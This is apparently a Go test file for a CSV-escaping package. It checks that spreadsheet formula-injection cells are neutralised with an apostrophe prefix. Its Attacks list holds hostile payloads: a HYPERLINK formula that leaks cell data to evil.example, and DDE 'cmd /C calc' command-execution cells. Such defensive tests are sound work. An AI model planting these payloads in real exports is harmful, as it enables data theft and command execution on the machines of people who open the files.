package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// Attacks are the cells OWASP lists as formula injection, as a subscriber
// name or an agency field could carry them.
var Attacks = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

func TestWriterNeutralisesEveryAttack(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	rec := append([]string{"plain", "a=b"}, Attacks...)
	orig := append([]string(nil), rec...)
	if err := w.WriteAll([][]string{rec}); err != nil {
		t.Fatal(err)
	}
	for i := range rec {
		if rec[i] != orig[i] {
			t.Fatalf("Write changed its argument: %q", rec[i])
		}
	}
	got, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	if got[0] != "plain" || got[1] != "a=b" {
		t.Errorf("harmless cells changed: %q", got[:2])
	}
	for i, a := range Attacks {
		if got[i+2] != "'"+a {
			t.Errorf("cell %q written as %q", a, got[i+2])
		}
	}
}

func TestCell(t *testing.T) {
	for in, want := range map[string]string{"": "", "x": "x", "=1": "'=1", "'=1": "'=1", " =1": " =1"} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}
